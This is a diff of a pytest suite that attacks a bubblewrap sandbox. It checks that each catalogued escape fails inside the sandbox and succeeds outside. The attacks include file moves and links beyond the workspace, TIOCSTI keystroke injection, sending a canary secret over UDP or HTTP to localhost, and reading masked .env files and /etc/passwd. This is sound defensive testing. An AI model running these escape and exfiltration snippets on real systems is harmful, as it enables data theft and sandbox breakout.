@@ -1,6 +1,7 @@
 """Attacks on the bubblewrap sandbox. Each is also made without a sandbox, where it must succeed.
 
-The names are those of the project's attack catalogue: A01, A02, A16, A17, A21, F01, F02, F05, F10.
+The names are those of the project's attack catalogue: A01, A02, A06, A08, A09, A16, A17, A21, A22, F01 to F03, F05,
+F10, F11, F13.
 """
 
 from __future__ import annotations
@@ -14,72 +15,20 @@ import subprocess
 import sys
 import tempfile
 import threading
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from pathlib import Path
 
 import psutil
 import pytest
 from real_processes import DAEMON, until
+from sandbox_cell import PYTHON, Cell, both
 
 from engine.executors.local import LocalExecutor
 from engine.models.settings import SandboxSettings
-from engine.ports import ProcessResult, ProcessSpec, Sandbox, SandboxPolicy
+from engine.ports import SandboxPolicy
 from engine.sandbox.bubblewrap import BubblewrapSandbox
 from engine.sandbox.choose import choose_sandbox
 from engine.sandbox.none import NoSandbox
-
-PYTHON = str(Path(sys.executable).resolve())
-ROOTS = (Path(sys.base_prefix), Path(PYTHON).parent.parent)
-
-
-class Cell:
-    """A workspace below a home folder with secrets, and what to run in it: with the sandbox, and without."""
-
-    def __init__(self, folder: Path, sandbox: Sandbox) -> None:
-        self.folder = folder
-        self.home = folder / "home"
-        self.workspace = self.home / "state" / "workspace"
-        self.workspace.mkdir(parents=True)
-        self.sandboxes: dict[str, Sandbox] = {"caged": sandbox, "free": NoSandbox()}
-        self._count = 0
-
-    async def run(
-        self,
-        how: str,
-        argv: tuple[str, ...],
-        *,
-        readable: tuple[Path, ...] = (),
-        writable: tuple[Path, ...] = (),
-        hosts: tuple[str, ...] = (),
-        env: dict[str, str] | None = None,
-    ) -> ProcessResult:
-        executor = LocalExecutor(self.sandboxes[how], f"cell-{self.folder.name}")
-        return await executor.run(self.spec(argv, readable, writable, hosts, env))
-
-    def spec(
-        self,
-        argv: tuple[str, ...],
-        readable: tuple[Path, ...] = (),
-        writable: tuple[Path, ...] = (),
-        hosts: tuple[str, ...] = (),
-        env: dict[str, str] | None = None,
-    ) -> ProcessSpec:
-        self._count += 1
-        return ProcessSpec(
-            run_id=f"attack-{self._count}",
-            argv=argv,
-            cwd=self.workspace,
-            env={"PATH": "/usr/bin:/bin", "HOME": str(self.home), **(env or {})},
-            folder=self.folder / "runs" / str(self._count),
-            wall_s=30.0,
-            policy=SandboxPolicy((self.workspace, *writable), (*ROOTS, *readable), hosts=hosts),
-        )
-
-    async def shell(self, how: str, line: str, **changes: object) -> ProcessResult:
-        return await self.run(how, ("sh", "-c", line), **changes)  # type: ignore[arg-type]
-
-    async def python(self, how: str, code: str, **changes: object) -> ProcessResult:
-        return await self.run(how, (PYTHON, "-I", "-S", "-c", code), **changes)  # type: ignore[arg-type]
 
 
 @pytest.fixture(scope="session")
@@ -93,18 +42,7 @@ def probed(tmp_path_factory: pytest.TempPathFactory) -> BubblewrapSandbox:
 
 @pytest.fixture
 def cell(tmp_path: Path, probed: BubblewrapSandbox) -> Cell:
-    # The same sandbox with this test's home hidden.
-    optional = ("--disable-userns",) if "--disable-userns" in probed.wrap((), tmp_path, {}, SandboxPolicy()) else ()
-    program = Path(probed.wrap((), tmp_path, {}, SandboxPolicy())[0])
-    return Cell(tmp_path, BubblewrapSandbox(program, probed.guarantees, home=tmp_path / "home", optional=optional))
-
-
-async def both(attack: Callable[[str], object], succeeded: Callable[[], bool]) -> None:
-    """The attack must fail in the cage and succeed outside of it."""
-    await attack("caged")  # type: ignore[misc]
-    assert not succeeded(), "the attack got out of the sandbox"
-    await attack("free")  # type: ignore[misc]
-    assert succeeded(), "the attack does not even work without a sandbox: the test proves nothing"
+    return Cell(tmp_path, probed.hiding(tmp_path / "home"))
 
 
 async def test_a01_writing_above_the_workspace(cell: Cell) -> None:
@@ -144,7 +82,7 @@ async def test_a16_a17_connecting_to_unix_sockets_of_the_session(cell: Cell, kin
 
 @pytest.mark.skipif(shutil.which("unshare") is None, reason="unshare is not installed")
 async def test_a21_a_nested_user_namespace(cell: Cell, probed: BubblewrapSandbox) -> None:
-    if "--disable-userns" not in probed.wrap((), cell.workspace, {}, SandboxPolicy()):
+    if not probed.extras["namespaces"]:
         pytest.skip("this bubblewrap cannot disable user namespaces")
     assert (await cell.run("free", ("unshare", "-Ur", "true"))).exit_code == 0
     assert (await cell.run("caged", ("unshare", "-Ur", "true"))).exit_code != 0
@@ -162,6 +100,131 @@ async def test_a21_kernel_settings_and_devices(cell: Cell) -> None:
     )
     assert (await cell.python("caged", code)).log.read_text(encoding="utf-8").split() == ["False"] * 3
     assert "True" in (await cell.python("free", code)).log.read_text(encoding="utf-8")
+
+
+async def test_a06_a08_a09_links_moves_and_modes_of_files_outside(cell: Cell) -> None:
+    outside = cell.home / "outside"
+    outside.mkdir()
+    for name in ("linked", "moved", "mode", "times"):
+        (outside / name).write_text("outside\n", encoding="utf-8")
+    (outside / "mode").chmod(0o600)
+    code = (
+        "import os\n"
+        "def attempt(act, *arguments):\n"
+        "    try: act(*arguments)\n"
+        "    except OSError as error: print(error)\n"
+        "open('own', 'w').write('own')\n"
+        f"outside = {str(outside)!r}\n"
+        "attempt(os.link, outside + '/linked', 'linked')\n"
+        "attempt(os.rename, outside + '/moved', 'moved')\n"
+        "attempt(os.rename, 'own', outside + '/brought')\n"
+        "attempt(os.chmod, outside + '/mode', 0o777)\n"
+        "attempt(os.utime, outside + '/times', (1, 1))\n"
+    )
+
+    def changed() -> list[bool]:
+        return [
+            (outside / "linked").stat().st_nlink > 1,
+            not (outside / "moved").exists(),
+            (outside / "brought").exists(),
+            (outside / "mode").stat().st_mode & 0o777 != 0o600,
+            (outside / "times").stat().st_mtime == 1,
+        ]
+
+    await cell.python("caged", code)
+    assert changed() == [False] * 5
+    await cell.python("free", code)
+    assert changed() == [True] * 5
+
+
+async def test_a22_there_is_no_terminal_to_type_into(cell: Cell) -> None:
+    """The terminal is one of its own, of which it is the owner: even so nothing is typed."""
+    code = (
+        "import fcntl, os, termios\n"
+        "try: os.open('/dev/tty', os.O_RDWR)\n"
+        "except OSError: print('none', flush=True)\n"
+        "_, terminal = os.openpty()\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid(); fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)\n"
+        "    try: fcntl.ioctl(terminal, termios.TIOCSTI, b'x'); print('typed', flush=True)\n"
+        "    except OSError: print('refused', flush=True)\n"
+        "    os._exit(0)\n"
+        "os.wait()"
+    )
+    said = {how: sorted((await cell.python(how, code)).log.read_text("utf-8").split()) for how in ("caged", "free")}
+    assert said["caged"] == ["none", "refused"]
+    if said["free"] != ["none", "typed"]:
+        pytest.skip("this kernel lets nobody type into terminals")
+
+
+async def test_f11_f13_other_ways_into_the_network(cell: Cell) -> None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
+        server.bind(("127.0.0.1", 0))
+        server.setblocking(False)
+
+        def heard() -> bool:
+            try:
+                return server.recv(100) == b"secret"
+            except BlockingIOError:
+                return False
+
+        code = (
+            "import socket\n"
+            f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', {server.getsockname()!r})"
+        )
+        await both(lambda how: cell.python(how, code), heard)
+    vsock = "import socket; socket.socket(40, socket.SOCK_STREAM); print('open')"
+    assert b"open" not in (await cell.python("caged", vsock)).log.read_bytes()
+    if b"open" not in (await cell.python("free", vsock)).log.read_bytes():
+        pytest.skip("this kernel has no sockets of virtual machines")
+
+
+async def test_f03_a_masked_file_looks_empty_and_stays_as_it_is(cell: Cell) -> None:
+    secret, lent, target = cell.workspace / ".env", cell.folder / "lent", cell.workspace / "target"
+    lent.mkdir()
+    for path in (secret, lent / ".env", target):
+        path.write_text("TOKEN=tok-canary-5\n", encoding="utf-8")
+    (cell.workspace / "link").symlink_to("target")
+    (cell.workspace / "dangling").symlink_to("nowhere")
+    (cell.workspace / "venv").mkdir()
+    names = (".env", "link", "dangling", "venv", "missing")
+    masked = (*(cell.workspace / name for name in names), lent / ".env", Path("/etc/passwd"))
+    line = (
+        f"cat .env link target {lent}/.env; wc -c < .env\n"
+        "test -s /etc/passwd && echo users; test -d venv && echo venv\n"
+        "echo x > .env; rm -f .env; mv -f target away; echo x > target; ls -a"
+    )
+    caged = (await cell.shell("caged", line, readable=(lent,), masked=masked)).log.read_text(encoding="utf-8")
+    assert "tok-canary-5" not in caged
+    assert {"0", "users", "venv", ".env"} <= set(caged.split())
+    for path in (secret, lent / ".env", target):
+        assert path.read_text(encoding="utf-8") == "TOKEN=tok-canary-5\n"
+    free = (await cell.shell("free", f"cat .env link target {lent}/.env")).log.read_text(encoding="utf-8")
+    assert free.count("tok-canary-5") == 4
+
+
+def test_a_sandbox_that_cannot_mask_does_not_pretend_to(cell: Cell) -> None:
+    plain = BubblewrapSandbox(Path("/usr/bin/bwrap"), {}, home=cell.home)
+    with pytest.raises(ValueError, match="cannot mask"):
+        plain.wrap(("true",), cell.workspace, {}, SandboxPolicy((cell.workspace,), masked=(cell.workspace / ".env",)))
+
+
+async def test_without_its_filter_nothing_runs(cell: Cell) -> None:
+    sandbox = cell.sandboxes["caged"]
+    assert isinstance(sandbox, BubblewrapSandbox)
+    sandbox.filter = cell.folder / "gone.bpf"
+    result = await cell.shell("caged", "touch ran")
+    assert (result.end, result.exit_code) == ("not_started", None)
+    assert "gone.bpf cannot be read" in result.note
+    sandbox.filter.write_bytes(b"no filter at all")
+    assert (await cell.shell("caged", "touch ran")).end == "not_started"
+    done = subprocess.run(
+        sandbox.wrap(("/bin/sh", "-c", "touch ran"), cell.workspace, {}, SandboxPolicy((cell.workspace,))),
+        capture_output=True,
+        check=False,
+    )
+    assert done.returncode != 0
+    assert not (cell.workspace / "ran").exists()
 
 
 async def test_f01_f05_reading_the_environment_of_the_engine(cell: Cell) -> None:
@@ -223,8 +286,6 @@ async def test_f10_sending_a_secret_by_http(cell: Cell, web: http.server.HTTPSer
     code = f"import urllib.request as u; u.urlopen('http://127.0.0.1:{web.server_port}/secret', timeout=5).close()"
     asked: list[str] = web.asked  # type: ignore[attr-defined]
     await both(lambda how: cell.python(how, code), lambda: asked == ["/secret"])
-    await cell.python("caged", code, hosts=("127.0.0.1",))
-    assert asked == ["/secret"] * 2
 
 
 async def test_killing_a_process_outside(cell: Cell) -> None:
@@ -300,20 +361,23 @@ async def test_a_program_that_is_not_visible_inside_is_not_started(cell: Cell) -
 
 
 async def test_the_environment_is_exact_and_shows_in_nobodys_argv(cell: Cell) -> None:
-    executor = LocalExecutor(cell.sandboxes["caged"], "cell")
+    executor = LocalExecutor(cell.sandboxes["caged"], cell.folder.name)
     given = {"TOKEN": "tok-canary-3", "LD_LIBRARY_PATH": str(cell.workspace)}
-    running = asyncio.create_task(executor.run(spec := cell.spec(("sh", "-c", "env; touch up; sleep 600"), env=given)))
+    spec = cell.spec(("sh", "-c", "env > said; touch up; sleep 600"), env=given)
+    running = asyncio.create_task(executor.run(spec))
     await asyncio.to_thread(until, (cell.workspace / "up").exists, "the command runs")
     try:
-        lines = (spec.folder / "log").read_text(encoding="utf-8").splitlines()
+        lines = (cell.workspace / "said").read_text(encoding="utf-8").splitlines()
         names = {line.partition("=")[0] for line in lines}
         assert names == {"PATH", "HOME", "TOKEN", "LD_LIBRARY_PATH", "SWARM_RUN", "PWD"}
         assert "TOKEN=tok-canary-3" in lines
         shown = [" ".join(_cmdline(process)) for process in psutil.process_iter()]
         assert not [line for line in shown if "tok-canary-3" in line]
         # bubblewrap itself runs outside: a library of the workspace must never be loaded into it.
-        outer = next(p for p in psutil.process_iter() if "--json-status-fd" in _cmdline(p))
-        assert "LD_LIBRARY_PATH" not in outer.environ()
+        outside = [_environ(p) for p in psutil.process_iter() if "--json-status-fd" in _cmdline(p)]
+        ours = [env for env in outside if env.get("SWARM_RUN", "").startswith(f"{cell.folder.name}/")]
+        assert ours
+        assert not [env for env in ours if "LD_LIBRARY_PATH" in env]
     finally:
         running.cancel()
         with pytest.raises(asyncio.CancelledError):
@@ -342,3 +406,10 @@ def _cmdline(process: psutil.Process) -> list[str]:
         return process.cmdline()
     except psutil.Error:
         return []
+
+
+def _environ(process: psutil.Process) -> dict[str, str]:
+    try:
+        return process.environ()
+    except psutil.Error:
+        return {}
